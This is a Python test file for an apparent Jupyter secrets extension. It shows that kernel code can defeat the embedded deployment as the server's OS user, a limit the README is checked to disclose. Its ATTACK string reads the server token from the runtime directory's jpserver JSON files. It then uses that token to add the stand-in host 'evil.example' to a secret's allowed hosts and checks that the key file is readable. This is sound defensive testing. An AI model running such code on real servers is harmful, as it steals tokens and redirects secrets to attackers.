"""What the embedded deployment promises against code in the kernel, and what it does not.

Promised: notebook code using the documented API (its kernel token) cannot read a value or
change where one may go. Not promised: kernel code runs as the server's OS user, so it can
read the server's own token from the runtime directory and the key file, and with the token
act as the person (here: add its own host to a secret). The README says so in its first
screen; the secrets service deployment is the answer (tests/test_service_boundary.py).
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import httpx
import pytest

README = Path(__file__).resolve().parent.parent / "README.md"

ATTACK = textwrap.dedent("""
    import glob, json, os, httpx
    api, token = os.environ["JUPYTER_SECRETS_URL"], os.environ["JUPYTER_SECRETS_TOKEN"]
    evil = {"allowed_hosts": ["evil.example"]}
    with_kernel_token = httpx.patch(f"{api}/secrets/KEY", json=evil,
                                    headers={"Authorization": f"Bearer {token}"})
    info = [json.load(open(p)) for p in glob.glob(
        os.path.join(os.environ["JUPYTER_RUNTIME_DIR"], "jpserver-*.json"))]
    server_token = info[0]["token"]
    with_server_token = httpx.patch(f"{api}/secrets/KEY", json=evil,
                                    headers={"Authorization": f"token {server_token}"})
    data_dir = os.environ["JUPYTER_DATA_DIR"]
    key_file_readable = os.access(os.path.join(data_dir, "jupyter_secrets.key"), os.R_OK)
    print(json.dumps({"kernel_token": with_kernel_token.status_code,
                      "server_token": with_server_token.status_code,
                      "key_file_readable": key_file_readable}))
""")


@pytest.fixture
def embedded(tmp_path, live_upstream):
    from .live import LiveServer

    server = LiveServer(tmp_path / "live", identity="token")
    server.key = ""  # the default embedded setup: a key file in the data dir
    server.start()
    try:
        yield server
    finally:
        server.stop()


def test_embedded_mode_stops_the_api_but_not_the_os_user(embedded, live_upstream):
    r = httpx.post(f"{embedded.api}/secrets", headers=embedded.admin, timeout=30, json={
        "name": "KEY", "value": live_upstream.api_key,
        "allowed_hosts": [f"127.0.0.1:{live_upstream.port}"]})
    assert r.status_code == 201
    kernel = embedded.start_kernel(embedded.admin)
    result = json.loads(embedded.run_in_kernel(kernel, ATTACK).splitlines()[-1])
    assert result["kernel_token"] == 403, "the documented API cannot move a value"
    assert result["server_token"] == 200, "the server's own token, read from disk, can"
    assert result["key_file_readable"] is True
    hosts = httpx.get(f"{embedded.api}/secrets/KEY", headers=embedded.admin).json()
    assert "evil.example" in hosts["allowed_hosts"]
    first_screen = README.read_text().split("## Quick start")[0]
    for words in ("server's own token", "key file", "/proc/<ppid>/environ",
                  "hostile code in the kernel", "another OS user"):
        assert words in first_screen
